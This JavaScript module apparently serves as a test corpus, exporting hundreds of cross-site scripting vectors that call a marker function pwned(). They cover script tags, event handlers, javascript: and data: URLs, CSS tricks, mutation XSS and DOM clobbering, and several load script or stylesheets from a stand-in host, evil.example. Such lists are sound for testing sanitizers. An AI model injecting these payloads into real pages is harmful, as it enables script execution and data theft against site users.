// xss.mjs - what has been used to make a page run somebody else's script, one a line: `vectors`.
//
// Each calls pwned() if it runs. None asks for a picture of a real address, which an item may do. The families are those of
// the well-known cheat sheets, mutation XSS and DOM clobbering included.

const tags = [
  '<script>pwned()</script>', '<SCRIPT>pwned()</SCRIPT>', '<ScRiPt >pwned()</ScRiPt >', '<script\n>pwned()</script\t>', '<script/x>pwned()</script>',
  '<script src="https://evil.example/x.js"></script>', '<script src=//evil.example/x.js></script>', '<script src="data:text/javascript,pwned()"></script>',
  '<script type="module">pwned()</script>', '<script type="module" src="data:text/javascript,pwned()"></script>', '<script>pwned()//', '<<script>pwned();//<</script>',
  '<scr<script>ipt>pwned()</scr</script>ipt>', '<script x>pwned()</script y>', '"><script>pwned()</script>', '\'><script>pwned()</script>', '</title><script>pwned()</script>',
  '</textarea><script>pwned()</script>', '</style><script>pwned()</script>', '</noscript><script>pwned()</script>', '--><script>pwned()</script>', ']]><script>pwned()</script>',
  '</script><script>pwned()</script>', '<!--><script>pwned()</script>-->', '<![CDATA[<script>pwned()</script>]]>', '<?xml version="1.0"?><script>pwned()</script>',
  '<script\u0000>pwned()</script>', '<\u0000script>pwned()</script>', '\\u003cscript\\u003epwned()\\u003c/script\\u003e', '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;script&#62;pwned()&#60;/script&#62;', '%3Cscript%3Epwned()%3C/script%3E', '＜script＞pwned()＜/script＞', '<script>\\u0070wned()</script>', '<script>eval("pw"+"ned()")</script>',
  '<script>setTimeout`pwned\\x28\\x29`</script>', '<script>Function("pwned()")()</script>', '<script async defer>pwned()</script>', '<script nomodule>pwned()</script>',
];

const handlers = [
  '<img src=x onerror=pwned()>', '<img src=x: onerror=pwned()>', '<IMG SRC=x ONERROR=pwned()>', '<img/src=x/onerror=pwned()>', '<img src="x`" onerror="pwned()">', '<img src=`x` onerror=pwned()>',
  '<img """><script>pwned()</script>">', '<img src=x onerror="pwned()"//', '<img src onerror=pwned()>', '<img src= onerror=pwned()>', '<img\tsrc=x\tonerror=pwned()>', '<img\nsrc=x\nonerror=pwned()>',
  '<img src=x onerror=&#112;wned()>', '<img src=x onerror="&#x70;wned()">', '<img srcset=x onerror=pwned()>', '<img src=x:x onload=pwned() onerror=pwned()>', '<image src=x onerror=pwned()>',
  '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'parent.pwned()\'/>">', '<svg onload=pwned()>', '<svg/onload=pwned()>', '<svg><script>pwned()</script></svg>',
  '<svg><script>pwned&#40;&#41;</script></svg>', '<svg><animate onbegin=pwned() attributeName=x dur=1s>', '<svg><set onbegin=pwned() attributename=x>', '<svg><a xlink:href="javascript:pwned()"><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>pwned()</script></svg>#x"/></svg>', '<svg><foreignObject><script>pwned()</script></foreignObject></svg>',
  '<svg><image href=x onerror=pwned()>', '<svg><style><img src=x onerror=pwned()></style></svg>', '<svg><desc><img src=x onerror=pwned()></desc></svg>', '<body onload=pwned()>', '<body onpageshow=pwned()>',
  '<iframe src="javascript:pwned()"></iframe>', '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>', '<iframe src="data:text/html,<script>parent.pwned()</script>"></iframe>', '<iframe onload=pwned()></iframe>',
  '<frameset onload=pwned()>', '<frame src="javascript:pwned()">', '<object data="javascript:pwned()"></object>', '<object data="data:text/html,<script>pwned()</script>"></object>', '<embed src="javascript:pwned()">',
  '<embed src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><script>pwned()</script></svg>">', '<applet code="x" onerror=pwned()></applet>', '<video src=x onerror=pwned()></video>',
  '<video><source onerror="pwned()"></video>', '<video poster=javascript:pwned()//></video>', '<audio src=x onerror=pwned()></audio>', '<audio autoplay onloadstart=pwned() src="data:audio/wav,x"></audio>',
  '<input autofocus onfocus=pwned()>', '<select autofocus onfocus=pwned()></select>', '<textarea autofocus onfocus=pwned()></textarea>', '<keygen autofocus onfocus=pwned()>', '<button autofocus onfocus=pwned()>x</button>',
  '<details open ontoggle=pwned()>x</details>', '<marquee onstart=pwned()>x</marquee>', '<div onmouseover=pwned()>x</div>', '<div onpointerenter=pwned() style="position:fixed;inset:0">x</div>', '<p onclick=pwned()>x</p>',
  '<a onfocus=pwned() autofocus tabindex=1>x</a>', '<div contenteditable onfocus=pwned() autofocus tabindex=0>x</div>', '<x onfocus=pwned() tabindex=1 autofocus>x</x>', '<style onload=pwned()></style>', '<link rel=stylesheet href=x onerror=pwned()>',
  '<div style="animation:appear 1s" onanimationstart=pwned()>x</div>', '<style>@keyframes z{}</style><b style="animation:z 1s" onanimationend=pwned()>x</b>', '<div style="transition:1s" ontransitionend=pwned()>x</div>',
  '<q oncut=pwned()>x', '<b onbeforeprint=pwned()>x</b>', '<dialog open onclose=pwned()><form method=dialog><button autofocus>x</button></form></dialog>', '<div popover id=p onbeforetoggle=pwned()>x</div>', '<input type=image src=x onerror=pwned()>',
  '<input type=hidden oncontentvisibilityautostatechange=pwned() style=content-visibility:auto>', '<math><mtext><img src=x onerror=pwned()></mtext></math>', '<math href="javascript:pwned()">x</math>', '<math><maction actiontype="statusline" xlink:href="javascript:pwned()">x</maction></math>',
];

const addresses = [
  '<a href="javascript:pwned()">x</a>', '<a href="JaVaScRiPt:pwned()">x</a>', '<a href=" javascript:pwned()">x</a>', '<a href="\u0001javascript:pwned()">x</a>', '<a href="java\tscript:pwned()">x</a>', '<a href="java\nscript:pwned()">x</a>',
  '<a href="javascript&colon;pwned()">x</a>', '<a href="&#106;avascript:pwned()">x</a>', '<a href="&#x6A;avascript:pwned()">x</a>', '<a href="javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+pwned()//\'>">x</a>',
  '<a href="vbscript:pwned()">x</a>', '<a href="data:text/html,<script>pwned()</script>">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">x</a>', '<a href="blob:null/x">x</a>', '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example" target=_self>x</a>', '<a href="https://good.example@evil.example/" onclick=pwned()>x</a>', '<a href="https://x/" ping="https://evil.example/">x</a>', '<form action="javascript:pwned()"><input type=submit></form>',
  '<form><button formaction="javascript:pwned()">x</button></form>', '<isindex action="javascript:pwned()">', '<base href="https://evil.example/">', '<base href="javascript:pwned()//">', '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<meta http-equiv=Content-Security-Policy content="script-src \'unsafe-inline\'">', '<link rel=stylesheet href="https://evil.example/x.css">', '<link rel=import href="data:text/html,<script>pwned()</script>">',
  '<link rel=prefetch href="https://evil.example/">', '<link rel=manifest href="https://evil.example/m.json">', '<table background="javascript:pwned()"><td>x</td></table>', '<area href="javascript:pwned()">', '<map name=x><area href="javascript:pwned()" shape=default></map>',
  'javascript:pwned()', 'JAVASCRIPT:pwned()', ' javascript:pwned()', 'java\tscript:pwned()', 'javascript://x%0apwned()', 'javascript:"<script>pwned()</script>"', 'vbscript:pwned()', 'data:text/html,<script>pwned()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwned()"><script>pwned()</script></svg>', 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiLz4=', 'blob:https://evil.example/x', 'filesystem:https://evil.example/x', 'about:blank#<script>pwned()</script>',
];

const styles = [
  '<div style="background:url(javascript:pwned())">x</div>', '<div style="background-image:url(https://evil.example/x)">x</div>', '<div style="width:expression(pwned())">x</div>', '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
  '<div style="behavior:url(x.htc)">x</div>', '<style>@import "https://evil.example/x.css";</style>', '<style>*{background:url(https://evil.example/x)}</style>', '<style>li{list-style-image:url("javascript:pwned()")}</style><ul><li>x</li></ul>',
  '<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>', '<font style="x:expression(pwned())">x</font>', '<xss style="behavior:url(#default#time2)" onbegin="pwned()">',
];

const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<svg></p><style><a id="</style><img src=x onerror=pwned()>">', '<svg><style><!--</style><img src=x onerror=pwned()>--></style></svg>', '<math><annotation-xml encoding="text/html"><style><img src=x onerror=pwned()></style></annotation-xml></math>',
  '<table><caption><svg><title><table><caption></title></svg><style><img src=x onerror=pwned()></style>', '<select><template><img src=x onerror=pwned()></template></select>', '<template><script>pwned()</script></template>', '<template shadowrootmode=open><script>pwned()</script></template>',
  '<div><template shadowrootmode="open"><img src=x onerror=pwned()></template></div>', '<xmp><img src="</xmp><img src=x onerror=pwned()>"></xmp>', '<plaintext><script>pwned()</script>', '<listing>&lt;img src=x onerror=pwned()&gt;</listing>',
  '<textarea><img title="</textarea><img src=x onerror=pwned()>"></textarea>', '<title><img title="</title><img src=x onerror=pwned()>"></title>', '<iframe><img title="</iframe><img src=x onerror=pwned()>"></iframe>', '<noembed><img title="</noembed><img src=x onerror=pwned()>"></noembed>',
  '<!--[if gte IE 4]><script>pwned()</script><![endif]-->', '<comment><img src="</comment><img src=x onerror=pwned()//">', '<p><svg><p><style><img src=x onerror=pwned()>', '<a href="https://x/"><a href="javascript:pwned()">x</a></a>', `${'<div>'.repeat(600)}<img src=x onerror=pwned()>`,
  '<img name=body><img name=getElementById><form name=cookie><input name=querySelector></form>', '<form id=feed><input name=children></form>', '<a id=news href="javascript:pwned()">x</a>', '<p id=banner-text>x</p><div id=feed role=alert>x</div>', '<img id=documentElement name=currentScript src=x onerror=pwned()>',
  '<slot name=x onslotchange=pwned()></slot>', '<news-feed src="https://evil.example/"></news-feed>', '<object id=defaultView><param name=x></object>', '<portal src="https://evil.example/"></portal>', '<fencedframe src="https://evil.example/"></fencedframe>',
];

const texts = [
  '{{constructor.constructor("pwned()")()}}', '${pwned()}', '<%= pwned() %>', '#{pwned()}', '{{7*7}}', '`-pwned()-`', '\'-pwned()-\'', '";pwned();//', '\\";pwned();//', '\u2028pwned()\u2029', '__proto__', 'constructor', 'toString', '" onmouseover="pwned()" x="',
  '\' onmouseover=\'pwned()\' x=\'', '"autofocus onfocus=pwned() tabindex=1 x="', '`onerror=pwned()', 'x\u202e)(denwp\u202c', '\ufeff<script>pwned()</script>', '+ADw-script+AD4-pwned()+ADw-/script+AD4-', '\u{e0001}\u{e003c}script>pwned()</script>', 'a\u0300'.repeat(200),
];

/** All of them, the whole families. */
export const vectors = [...tags, ...handlers, ...addresses, ...styles, ...mutations, ...texts];
